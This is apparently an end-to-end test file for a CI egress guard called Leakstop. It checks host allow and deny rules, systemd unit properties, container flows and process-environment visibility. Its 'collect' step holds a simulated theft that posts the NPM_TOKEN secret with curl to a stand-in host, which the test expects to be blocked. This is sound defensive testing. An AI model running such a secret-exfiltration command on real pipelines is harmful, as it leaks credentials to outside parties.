# SPDX-License-Identifier: MIT
"""The action from end to end, as a user who may become root with sudo."""

from __future__ import annotations

from e2e.acting import ACTION
from lab import tokens
from lab.network import BARE
from vm.runner.machine import RUNNER, Job, Machine, once
from vm.runner.traces import nothing

_SECRET = tokens.npm()
_PROPERTIES = {
    "Type": "exec",
    "OOMScoreAdjust": "-1000",
    "OOMPolicy": "continue",
    "TimeoutStopUSec": "10s",
    "KillMode": "control-group",
    "CollectMode": "inactive-or-failed",
}
"""Of the agent's unit, as systemd has understood them."""
_IMAGE = """
cd "$(mktemp -d)" && mkdir dev etc proc run sys tmp && ln -s usr/bin usr/lib usr/lib64 .
tar -c . | docker import - machine
"""
"""What it holds comes from the machine."""
_BOX = """\
|
    docker run --rm -v /usr:/usr:ro -v /leakstop:/leakstop:ro \\
      -e CURL_CA_BUNDLE=/leakstop/ca.pem machine \\
      curl -sS -m 20 https://home.test/ || echo "curl ended with $?"
"""
_READERS = """\
|
    echo "own: $(ps eww -o args= -p $$ | grep -c HOME=)"
    echo "worker: $(ps eww -o args= -p $PPID | grep -c HOME=)"
    ps auxe > /dev/null; echo "ps: $?"
    top -bn1 > /dev/null; echo "top: $?"
    pgrep -f "act push" > /dev/null; echo "pgrep: $?"
    sudo -n ps auxe > /dev/null; echo "root: $?"
    python3 -c "import psutil; print('psutil:', psutil.Process($PPID).as_dict(
      ['cmdline', 'cpu_times', 'memory_info', 'num_fds', 'status'])['status'])"
"""
"""Programs that look at all processes, as builds and services run them. The worker is ``$PPID``."""
_CLEAN = f"""
- uses: {ACTION}
  with: {{allow: home.test}}
- run: curl -sS https://home.test/
- id: readers
  run: {_READERS}
"""
_GUARDED = f"""
- uses: {ACTION}
  with:
    policy: |
      version: 1
      mode: block
      allow:
        - host: home.test
          step: [named, box]
    secrets: NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}}
- id: user
  run: id -u; sudo -n id -u; cat /etc/resolv.conf
- id: named
  run: curl -sS -m 20 https://home.test/
- id: unnamed
  run: curl -sS -m 20 https://other.test/ || echo "curl ended with $?"
- id: unit
  run: |
    unit=$(systemctl list-units --plain --no-legend 'leakstop-*.service' | cut -d ' ' -f 1)
    systemctl show "$unit" -p {",".join(_PROPERTIES)}
    systemctl show "$unit" -p Id,ActiveState,SubState,ControlGroup,MainPID
    pid=$(systemctl show "$unit" -p MainPID --value)
    echo "scores=$(cat "/proc/$pid/oom_score_adj" "/proc/$(pgrep -P "$pid")/oom_score_adj" | xargs)"
    echo "uid=$(stat -c %u "/proc/$pid")"
    echo "cgroup=$(cut -d : -f 3 "/proc/$pid/cgroup")"
- id: traces
  run: sudo -n env PYTHONPATH=/leakstop/agent:/leakstop/tests python3 -B -m vm.runner.traces
- id: box
  run: {_BOX}
- id: stranger
  run: {_BOX}
- id: readers
  run: {_READERS}
- id: collect
  run: curl -s -m 20 -d "${{{{ secrets.NPM_TOKEN }}}}" http://{BARE}/
"""


@once
def clean(machine: Machine) -> Job:
    """A job in which nothing happens, in audit mode."""
    return machine.run(_CLEAN)


@once
def guarded(machine: Machine) -> Job:
    """A job in block mode with a theft in it, and with containers."""
    machine.said(_IMAGE)
    return machine.run(_GUARDED, secrets=[_SECRET])


def check_a_clean_job_passes(machine: Machine) -> bool:
    outcome = clean(machine).outcome
    (run,) = outcome.record("run")
    seen = (run["coverage"]["sensor"], run["coverage"]["lost_events"])
    return not outcome.red and seen == ("kernel", 0) and outcome.annotations() == []


def check_a_clean_job_leaves_nothing(machine: Machine) -> bool:
    return nothing(clean(machine).left)


def check_the_job_is_an_ordinary_user_who_may_become_root(machine: Machine) -> bool:
    said = guarded(machine).outcome.said("Main", "user").split()
    return said[:2] == [str(RUNNER), "0"] and "127.0.0.53" in said


def check_block_allows_a_named_host_through_the_stub(machine: Machine) -> bool:
    """The address was learned from the answer of the server that the stub asks."""
    return guarded(machine).outcome.said("Main", "named") == "ok\n"


def check_block_denies_an_unnamed_host(machine: Machine) -> bool:
    said = guarded(machine).outcome.said("Main", "unnamed")
    return "curl ended with" in said and machine.internet.other.connections == []


def check_the_agent_is_a_unit_of_systemd(machine: Machine) -> bool:
    """And root's process, in a cgroup of its own beside the job's."""
    shown = _unit(machine)
    own = f"/system.slice/{shown['Id']}"
    state = (shown["ActiveState"], shown["SubState"], shown["uid"])
    return state == ("active", "running", "0") and shown["cgroup"] == shown["ControlGroup"] == own


def check_the_unit_keeps_the_agent_when_memory_is_short(machine: Machine) -> bool:
    """It is what systemd was asked for, and agent and supervisor are the last to be taken."""
    shown = _unit(machine)
    read = {name: shown[name] for name in _PROPERTIES}
    return read == _PROPERTIES and shown["scores"] == "-1000 -1000"


def _unit(machine: Machine) -> dict[str, str]:
    said = guarded(machine).outcome.said("Main", "unit")
    return dict(line.split("=", 1) for line in said.splitlines())


def check_a_container_is_the_steps_that_asked_for_it(machine: Machine) -> bool:
    """Its cgroup is one that systemd has made for the engine."""
    outcome = guarded(machine).outcome
    flows = {
        (flow["step"], flow["applied"])
        for flow in outcome.report["flows"]
        if flow["host"] == "home.test" and flow["process"]["container"]
    }
    own, others = outcome.said("Main", "box"), outcome.said("Main", "stranger")
    passed = own == "ok\n" and "curl ended with" in others
    return passed and flows == {("box", "allow"), ("stranger", "deny")}


_READ = "ps: 0\ntop: 0\npgrep: 0\nroot: 0\npsutil: "


def check_who_looks_at_all_processes_goes_on(machine: Machine) -> bool:
    """Where opening the worker's environment is denied, ps(1) shows it as it shows a stranger's."""
    open_, closed = (job(machine).outcome.said("Main", "readers") for job in (clean, guarded))
    found = [each["id"] for each in guarded(machine).outcome.record("finding")]
    return (
        open_.startswith(f"own: 1\nworker: 1\n{_READ}")
        and closed.startswith(f"own: 1\nworker: 0\n{_READ}")
        and "runner-read" not in found
    )


def check_what_is_in_force_can_be_seen(machine: Machine) -> bool:
    """If it could not, nothing would ever be left."""
    seen = guarded(machine).outcome.said("Main", "traces").splitlines()
    return all(
        any(line.startswith(mark[0]) and mark[1] in line for line in seen)
        for mark in (
            ("/run/leakstop/job-", "/control.sock"),
            ("/run/leakstop/code-", ""),
            ("systemctl: leakstop-", ".service"),
            ("/sys/fs/cgroup/system.slice/leakstop-", ".service"),
            ("", " - bpf bpf "),
            ("link ", ""),
        )
    )


def check_a_secret_on_its_way_to_a_stranger_dies_and_the_job_is_red(machine: Machine) -> bool:
    outcome = guarded(machine).outcome
    titles = [error.title for error in outcome.annotations("error")]
    return (
        outcome.red
        and "Leakstop: a secret was stopped on its way out" in titles
        and machine.internet.collector.connections == []
        and outcome.shows(_SECRET) == []
    )


def check_a_red_job_leaves_nothing(machine: Machine) -> bool:
    return nothing(guarded(machine).left)
